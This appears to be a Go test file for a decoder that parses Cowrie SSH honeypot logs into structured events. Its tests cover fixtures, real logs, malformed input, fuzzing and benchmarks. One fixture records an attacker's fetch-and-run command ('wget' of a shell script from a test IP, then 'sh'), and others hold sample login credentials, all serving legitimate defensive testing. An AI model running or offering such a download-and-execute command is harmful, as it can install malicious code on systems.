package cowrie

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/decode/internal/dectest"
	"github.com/vigil-sec/vigil/event"
)

func TestDecodeFixtures(t *testing.T) {
	tests := []dectest.Case{
		{File: "cowrie.json", Time: "2024-05-06T08:00:00.123456Z", Common: map[string]string{
			"event.action": "cowrie.session.connect", "event.category": "network", "source.ip": "198.51.100.23", "source.port": "50122",
			"destination.ip": "172.17.0.2", "destination.port": "2222", "host.name": "honey-01", "event.outcome": "",
		}, Fields: map[string][]string{"session": {"a1b2c3d4e5f6"}, "protocol": {"ssh"}}},
		{File: "cowrie.json", Line: 1, Time: "2024-05-06T08:00:00.3Z", Common: map[string]string{"event.action": "cowrie.client.version", "source.port": ""}, Fields: map[string][]string{"kexAlgs": {"curve25519-sha256", "diffie-hellman-group14-sha256"}, "version": {"SSH-2.0-libssh2_1.10.0"}}},
		{File: "cowrie.json", Line: 2, Time: "2024-05-06T08:00:01Z", Common: map[string]string{"event.category": "authentication", "event.outcome": "failure", "user.name": "admin"}, Fields: map[string][]string{"password": {"admin123"}, "username": {"admin"}}},
		{File: "cowrie.json", Line: 3, Time: "2024-05-06T08:00:02Z", Common: map[string]string{"event.outcome": "success", "user.name": "root", "message": `login attempt [root/"quoted" pass] succeeded`}, Fields: map[string][]string{"password": {`"quoted" pass`}}},
		{File: "cowrie.json", Line: 4, Time: "2024-05-06T08:00:03Z", Common: map[string]string{"event.category": "process", "process.command_line": "cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"}},
		{File: "cowrie.json", Line: 5, Time: "2024-05-06T08:00:04Z", Common: map[string]string{"event.category": "file", "url.original": "http://203.0.113.9/x.sh",
			"message": "Downloaded URL (http://203.0.113.9/x.sh) with SHA-256 9f86d081"}, Fields: map[string][]string{"outfile": {"var/lib/cowrie/downloads/abc"}}},
		{File: "cowrie.json", Line: 6, Time: "2024-05-06T08:00:05Z", Common: map[string]string{"destination.ip": "192.0.2.80", "destination.port": "443", "source.ip": "127.0.0.1", "source.port": "0"}},
		{File: "cowrie.json", Line: 7, Time: "2024-05-06T08:00:06Z", Common: map[string]string{"event.action": "cowrie.session.closed"}, Fields: map[string][]string{"duration": {"4.2"}}},
	}
	if n := len(dectest.Lines(t, filepath.Join("testdata", "cowrie.json"))); n != len(tests) {
		t.Fatalf("%d fixture lines, %d expectations", n, len(tests))
	}
	dectest.CheckLines(t, New, time.Time{}, event.Logsource{Product: "cowrie"}, tests)
}

// TestHoneypotLogs decodes five days of a real Cowrie honeypot
// (shared/data, not shipped): every record must decode, with its time
// and source address, and logins must carry a user and an outcome.
func TestHoneypotLogs(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("..", "..", "..", "shared", "data", "ssh_auth", "cowrie_honeypot", "cowrie.json.*.gz"))
	if len(files) == 0 {
		t.Skip("shared/data/ssh_auth/cowrie_honeypot not available")
	}
	d := New()
	var ev event.Event
	ev.Fields.Bind(event.NewDict("password"))
	counts := map[string]int{}
	n := 0
	for _, f := range files {
		for i, l := range dectest.Lines(t, f) {
			ev.Reset()
			if err := d.Decode([]byte(l), &ev); err != nil {
				t.Errorf("%s:%d: %v", filepath.Base(f), i+1, err)
				continue
			}
			n++
			c := &ev.Common
			if ev.Time.Year() != 2018 || c[event.SourceIP] == "" {
				t.Errorf("%s:%d: time %v source.ip %q", filepath.Base(f), i+1, ev.Time, c[event.SourceIP])
			}
			if c[event.EventCategory] == "authentication" {
				counts[c[event.EventOutcome]]++
				if _, ok := ev.Get("password"); !ok {
					t.Errorf("%s:%d: login without password", filepath.Base(f), i+1)
				}
			}
		}
	}
	t.Logf("%d records, logins by outcome %v", n, counts)
	if counts["failure"] == 0 || counts["success"] == 0 {
		t.Errorf("logins %v: want both outcomes", counts)
	}
}

func TestBadInput(t *testing.T) {
	dectest.CheckBad(t, Format, New, []dectest.Bad{
		{Rec: `{"eventid":"cowrie.login.failed",}`, Reason: "invalid JSON", Offset: 33},
		{Rec: `["cowrie.login.failed"]`, Reason: "JSON array"},
		{Rec: `{"src_ip":"1.2.3.4"}`, Reason: "missing required keys eventid, timestamp", Offset: -1},
		{Rec: `{"eventid":"cowrie.login.failed"}`, Reason: "missing required key timestamp", Offset: -1},
		{Rec: `{"eventid":"sshd.login","timestamp":"2024-05-06T08:00:00Z"}`, Field: "eventid", Reason: "no Cowrie eventid", Offset: -1},
		{Rec: `{"event":{"eventid":"cowrie.login.failed","timestamp":"2024-05-06T08:00:00Z"}}`, Reason: `missing required keys eventid, timestamp (found under "event"`, Offset: -1},
		{Rec: `{"eventid":"cowrie.login.failed","timestamp":"yesterday"}`, Field: "timestamp", Reason: "unreadable", Offset: -1},
	})
}

func TestSniff(t *testing.T) {
	for i, l := range dectest.Lines(t, filepath.Join("testdata", "cowrie.json")) {
		if s := Sniff([]byte(l)); s < 90 {
			t.Errorf("line %d: score %d", i+1, s)
		}
	}
	for _, l := range []string{"", "{}", `{"eventid":4625}`, `{"eventid":"x"}`, `cowrie.login.failed`} {
		if s := Sniff([]byte(l)); s != 0 {
			t.Errorf("%q: score %d, want 0", l, s)
		}
	}
}

var benchDict = event.NewDict("eventid", "password", "input", "session")

func TestZeroAllocs(t *testing.T) {
	dectest.ZeroAllocs(t, New(), benchDict, dectest.LineRecords(t, "cowrie.json"))
}

func BenchmarkDecode(b *testing.B) {
	dectest.BenchDecode(b, New(), benchDict, dectest.LineRecords(b, "cowrie.json"))
}

func FuzzDecode(f *testing.F) {
	recs := dectest.LineRecords(f, "cowrie.json")
	for _, r := range recs {
		f.Add(r)
	}
	f.Add([]byte(`{"eventid":["cowrie.x",1],"timestamp":1714982400,"src_ip":{"a":null}}`))
	dectest.Fuzz(f, New(), nil, time.Time{}, func(t *testing.T, ev *event.Event) {
		if !strings.HasPrefix(ev.Common[event.EventAction], "cowrie.") {
			t.Fatalf("decoded without a Cowrie eventid: %q", ev.Common[event.EventAction])
		}
	})
}

func TestRegistered(t *testing.T) { dectest.Registered[*Decoder](t, Format) }
